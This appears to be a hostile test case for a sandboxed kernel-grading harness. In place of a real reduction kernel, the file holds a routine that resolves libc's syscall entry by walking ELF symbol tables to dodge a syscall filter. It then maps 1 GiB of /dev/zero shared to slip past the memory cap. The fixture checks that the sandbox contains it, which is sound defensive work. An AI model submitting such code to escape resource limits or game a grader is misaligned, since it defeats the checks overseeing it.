// expect: gpu=unwritten-output|crash emu=unwritten-output  args=--sizes=1000,--blocks=256,--memory-limit=256M -- Has no kernel: maps 1 GiB of /dev/zero shared (MAP_SHARED without MAP_ANONYMOUS: the same shmem pages as a shared anonymous mapping, which the filter refuses, and which RLIMIT_DATA, the emulator's cap, does not count) and writes every page.  The emulator's graded process may write /dev/null of /dev only (Landlock): /dev/zero opens read-only, and a read-only shared mapping of it reads the zero page, holding nothing.  Graded by single-hostile.sh, which checks that nothing past the cap was held. On a GPU too, where Landlock is on by default (contained on an H100).
// mistake: no kernel; memory past the cap held in a shared mapping of /dev/zero
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <elf.h>

// libc's own entry for `name`: the image holding fputs begins with an ELF
// header at a page boundary below it; its dynamic section leads to the
// symbol and string tables.  Nothing refused is named in this object.
static void *from_libc_table(const char *name)
{
    uintptr_t at = (uintptr_t)(void *)&fputs & ~(uintptr_t)0xfff;
    for (; std::memcmp((const void *)at, ELFMAG, SELFMAG) != 0; at -= 0x1000) {
    }
    const Elf64_Ehdr *head = (const Elf64_Ehdr *)at;
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < head->e_phnum; i++) {
        const Elf64_Phdr *seg = (const Elf64_Phdr *)(at + head->e_phoff) + i;
        if (seg->p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(at + seg->p_vaddr);
    }
    const Elf64_Sym *table = nullptr;
    const char *text = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr;
        if (p < at)
            p += at;
        if (dyn->d_tag == DT_SYMTAB)
            table = (const Elf64_Sym *)p;
        else if (dyn->d_tag == DT_STRTAB)
            text = (const char *)p;
    }
    if (!table || !text)
        return nullptr;
    for (const Elf64_Sym *s = table + 1; (const char *)s < text; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(text + s->st_name, name) == 0)
            return (void *)(at + s->st_value);
    return nullptr;
}

typedef long (*sys_fn)(long, ...);
#include <cerrno>
static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
{
    static sys_fn call = (sys_fn)from_libc_table("syscall");
    return call ? call(nr, a, b, c, d, e, f) : -1;
}
#include <sys/syscall.h>
#include <sys/mman.h>
#include <sys/ipc.h>
#include <sys/resource.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <fcntl.h>
#include <unistd.h>
#include <sched.h>
#include <ctime>

// 1 GiB of /dev/zero mapped shared: no MAP_ANONYMOUS flag, the same shmem
// pages as a shared anonymous mapping, which RLIMIT_DATA does not count.
// Written where it may open /dev/zero for writing; read (the zero page,
// nothing held) where it may not.
static void attack()
{
    long fd = sys(SYS_openat, AT_FDCWD, (long)"/dev/zero", O_RDWR);
    bool rw = fd >= 0;
    if (!rw)
        fd = sys(SYS_openat, AT_FDCWD, (long)"/dev/zero", O_RDONLY);
    size_t len = (size_t)1 << 30;
    long p = fd < 0 ? -1 : sys(SYS_mmap, 0, (long)len, rw ? PROT_READ | PROT_WRITE : PROT_READ, MAP_SHARED, fd, 0);
    printf("devzero %s, %s\n", rw ? "opened for writing" : "read-only", p == -1 ? "not mapped" : "mapped");
    size_t held = 0;
    unsigned long seen = 0;
    for (size_t off = 0; p != -1 && off < len; off += 4096) {
        if (rw) {
            ((volatile char *)p)[off] = 1;
            held += 4096;
        } else {
            seen += ((volatile const char *)p)[off];
        }
    }
    printf("held %zu MiB in shared pages of /dev/zero (%lu)%s\n", held >> 20, seen,
           held > ((size_t)256 << 20) ? ": escaped the memory cap" : "");
    fflush(stdout);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    static bool done;
    if (!done) {
        done = true;
        attack();
    }
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    sum_atomic(d_input, d_result, n, block);
}
